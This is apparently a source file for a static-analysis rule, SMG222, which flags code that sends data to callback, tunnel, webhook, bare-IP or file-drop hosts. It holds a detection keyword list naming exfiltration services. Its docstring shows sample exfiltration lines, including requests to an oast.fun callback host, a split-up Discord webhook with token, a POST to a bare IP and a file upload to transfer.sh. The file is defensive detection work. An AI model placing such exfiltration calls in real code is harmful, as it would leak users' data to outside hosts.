"""SMG222: the code talks to an address that nobody's product talks to."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from typing import TYPE_CHECKING

from pytest_selfmod_guard import paths
from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, python_rule
from pytest_selfmod_guard.rules.danger._flow_marks import Mark
from pytest_selfmod_guard.rules.danger._flow_words import SENDERS, concerns

if TYPE_CHECKING:
    import libcst

    from pytest_selfmod_guard.rules.danger._flow import Flow
    from pytest_selfmod_guard.rules.danger._flow_sends import Send
    from pytest_selfmod_guard.syntax import Python

_TRIGGERS = (
    *SENDERS,
    *(b"oast", b"interact", b"burpcollaborator", b"webhook", b"pipedream", b"ngrok", b"oastify"),
    *(b"requestbin", b"canarytokens", b"dnslog", b"ceye", b"trycloudflare", b"grabify", b"duckdns"),
    *(b"onion", b"webhooks", b"services", b"hopto", b"beeceptor", b"iplogger", b"interactsh"),
)


@python_rule(
    "SMG222",
    risk=Risk.HIGH,
    hint="talk to a named host of the service over https, and read an address that differs between "
    "installations, and every webhook with its token, from the configuration",
    triggers=_TRIGGERS,
)
def called_back(python: Python) -> Iterable[Sighting]:
    """
    An address is written into the code that is made for catching what leaks out.

    Call-back servers, tunnels to somebody's desk, webhooks with their token,
    hidden services and bare numbers: they are where stolen data goes and where
    second stages come from. Places to drop files at, short links and the like
    are a warning, and worse where files or what a command said go there.

    Flagged: a call-back server
        === shop/stats.py
          import requests
        + requests.get("http://c0ffee.oast.example.oast.fun/start")

    Flagged: a webhook with its token, put together
        === shop/stats.py
        + HOOK = "https://discord.com/api/web" + "hooks/123456789012/" + "a-token-of-somebody"

    Flagged: a bare address
        === shop/stats.py
          import requests
          def report(data):
        +     requests.post("http://203.0.113.9:8080/in", json=data)

    Flagged: a file goes where everybody drops files
        === shop/stats.py
          import requests
          def report(name):
        +     requests.post("https://transfer.sh/", files={"file": open(name, "rb")})

    Allowed: a name, and this machine
        === shop/stats.py
          import requests
          def report(data, hook):
        +     requests.post("https://stats.example.com/in", json=data)
        +     requests.post("http://127.0.0.1:9000/in", json=data)
        +     requests.post(hook, json=data)

    Allowed: in a test
        === tests/test_stats.py
        + def test_hook(shop):
        +     assert shop.report("https://webhook.site/abc") is None
    """
    if paths.zone(python.path) == paths.TEST or not concerns(python, _TRIGGERS):
        return
    from pytest_selfmod_guard.rules.danger._flow import flow  # noqa: PLC0415 (imports libcst)
    from pytest_selfmod_guard.rules.danger._flow_sends import (  # noqa: PLC0415 (imports libcst)
        sends,
    )

    known = flow(python)
    seen = set()
    for send in sends(known):
        what, risk = _of_send(send)
        if what:
            seen.add(python.line(send.call.node))
            yield _sighting(python, send.call.node, what, risk)
    for node in _written(known):
        if python.line(node) not in seen:
            yield _sighting(
                python, node, "an address for catching what leaks out stands here", Risk.HIGH
            )


def _sighting(python: Python, node: libcst.CSTNode, what: str, risk: Risk) -> Sighting:
    return Sighting(python.line(node), what, python.code(node), python.scope(node), risk=risk)


def _of_send(send: Send) -> tuple[str, Risk]:
    if send.marks & Mark.CALLBACK:
        return "this talks to an address for catching what leaks out", Risk.HIGH
    if send.marks & Mark.BARE:
        return "this talks to a machine that has only a number", Risk.HIGH
    if send.marks & Mark.DROP:
        loaded = send.marks & (Mark.FILE | Mark.OUTPUT | Mark.SECRET)
        return (
            "this talks to a place where anybody drops things",
            Risk.HIGH if loaded else Risk.MEDIUM,
        )
    if send.marks & Mark.MESSENGER:
        return "this talks to somebody through a messenger", Risk.MEDIUM
    return "", Risk.NONE


def _written(flow: Flow) -> Iterator[libcst.CSTNode]:
    """Give what is assigned or passed and holds a call-back address."""
    for edge in flow.edges.all:
        if flow.direct(edge.value) & Mark.CALLBACK:
            yield edge.value
